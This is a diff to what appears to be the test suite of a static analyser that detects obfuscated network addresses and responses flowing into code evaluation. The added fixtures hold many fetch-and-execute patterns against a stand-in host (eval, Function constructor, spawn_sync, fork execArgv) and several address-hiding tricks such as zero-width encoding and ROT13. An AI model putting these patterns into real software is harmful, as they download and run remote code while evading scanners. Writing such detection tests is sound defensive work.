@@ -29,6 +29,16 @@ describe("a constant is known however it is written", () => {
     "a default of a parameter": `((url = "${address}") => url)()`,
     "a class that keeps it": `new (class { constructor(u) { this.u = u; } get() { return this.u; } })("${address}").get()`,
     "destructuring with a rest": `(({ a, ...rest }) => rest.b)({ a: 1, b: "${address}" })`,
+    "letters turned by a function": `"${characters.map((c) => (/[a-z]/u.test(c) ? String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97) : c)).join("")}".replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97))`,
+    "pieces of two characters": `"${hex(address)}".match(/../g).map((pair) => String.fromCharCode(parseInt(pair, 16))).join("")`,
+    "characters that show nothing": `[...${JSON.stringify(
+      characters
+        .map((c) => c.charCodeAt(0).toString(2).padStart(8, "0"))
+        .join("")
+        .replaceAll("0", "\u200B")
+        .replaceAll("1", "\u200C"),
+    )}].map((c) => (c === "\u200b" ? "0" : "1")).join("").match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join("")`,
+    "the text of a function": `(() => { function note() { /*${address}*/ } return note.toString().split("/*")[1].split("*/")[0]; })()`,
     escapes: `"\\x68\\x74\\x74\\x70\\x73://api.example/v1"`,
   };
   for (const [name, expression] of Object.entries(forms)) {
@@ -108,6 +118,16 @@ describe("what the network answers is followed into evaluation", () => {
     "an option that is the input of an interpreter": `fetch("${address}").then((r) => require("child_process").execFileSync("python3", { input: r.body }));`,
     "a data address that is imported": `fetch("${address}").then((r) => import("data:text/javascript," + encodeURIComponent(r.body)));`,
     "a contract of a chain": `const { ethers } = require("ethers"); const p = new ethers.JsonRpcProvider("${address}"); new ethers.Contract("0x0", [], p).text().then((t) => eval(t));`,
+    "an error that nothing catches": `process.on("uncaughtException", (error) => eval(error.message)); fetch("${address}").then((r) => { throw new Error(r.body); });`,
+    "a stream that is made by hand": `const { Writable } = require("stream"); require("https").get("${address}", (r) => { let s = ""; r.pipe(new Writable({ write(part) { s += part; }, final() { eval(s); } })); });`,
+    "bytes that are filled one by one": `fetch("${address}").then((r) => { const out = Buffer.alloc(9); for (let i = 0; i < 9; i++) out[i] = r.body[i] ^ 7; eval(out.toString()); });`,
+    "the constructor of a method": `fetch("${address}").then((r) => [].filter.constructor(r.body)());`,
+    "the environment as a store": `fetch("${address}").then((r) => { process.env.CACHE = r.body; eval(process.env.CACHE); });`,
+    "the store of a page": `fetch("${address}").then((r) => { localStorage.setItem("a", r.body); eval(localStorage.getItem("a")); });`,
+    "a function that is wrapped by another": `const once = require("once"); const run = once((text) => eval(text)); fetch("${address}").then((r) => run(r.body));`,
+    "a client nothing is known of": `module.exports = (client) => client.get("${address}").then((r) => eval(r.body));`,
+    "a process that is started behind Node.js's back": `fetch("${address}").then((r) => process.binding("spawn_sync").spawn({ file: "node", args: ["-e", r.body] }));`,
+    "options of a forked process": `fetch("${address}").then((r) => require("child_process").fork("x", [], { execArgv: ["-e", r.body] }));`,
     "JSON parsed on the way": `fetch("${address}").then((r) => { const { code } = JSON.parse(r.body); eval(code); });`,
   };
   for (const [name, source] of Object.entries(ways)) {
@@ -134,6 +154,40 @@ describe("what the network answers is followed into evaluation", () => {
         new Runner(new Client()).run();`,
     });
     assert.deepEqual(onlyEffect(effects, "evaluate").subject.origins[0]?.address?.texts, [address]);
+  });
+
+  test("enumerations and namespaces of TypeScript", async () => {
+    const { effects } = await readFiles({
+      "index.ts": `enum Key { A = "${base64(address)}" } namespace Tools { export const run = (text: string) => eval(text); }
+        fetch(atob(Key.A)).then((r) => r.text()).then(Tools.run);`,
+    });
+    assert.deepEqual(onlyEffect(effects, "evaluate").subject.origins[0]?.address?.texts, [address]);
+  });
+
+  test("of an address that may have several beginnings one is kept", async () => {
+    const source = `const client = require("axios").create({ baseURL: process.env.BASE || "https://api.example" }); client.get("/v1").then((r) => eval(r.data));`;
+    const [evaluation] = await effectsOf("evaluate", source);
+    assert.deepEqual(evaluation?.subject.origins[0]?.address?.texts, [address]);
+  });
+
+  test("a decoder of a package whose text stands in the code", async () => {
+    const source = `eval(require("crypto-js").AES.decrypt("U2FsdGVkX18", "key").toString()); eval(require("lz-string").decompressFromBase64("N4IgZg9hDOAuCWA3Apg"));`;
+    assert.deepEqual(
+      (await effectsOf("evaluate", source)).map(({ subject }) => [
+        ...subject.encodings,
+        ...subject.origins.map(({ kind }) => kind),
+      ]),
+      [
+        ["encrypted", "decoded-constant"],
+        ["base64", "decoded-constant"],
+      ],
+    );
+  });
+
+  test("an address that holds what a function was given can be read", async () => {
+    const source = `const join = (parts) => { let r = ""; for (const part of parts) r += part.slice(0) + "/"; return r; }; fetch(join(["https://api.example", "v1", "a", "b"]));`;
+    const [request] = await effectsOf("request", source);
+    assert.deepEqual(request?.subject.encodings, []);
   });
 
   test("a module that is loaded by an address is that computer's answer", async () => {
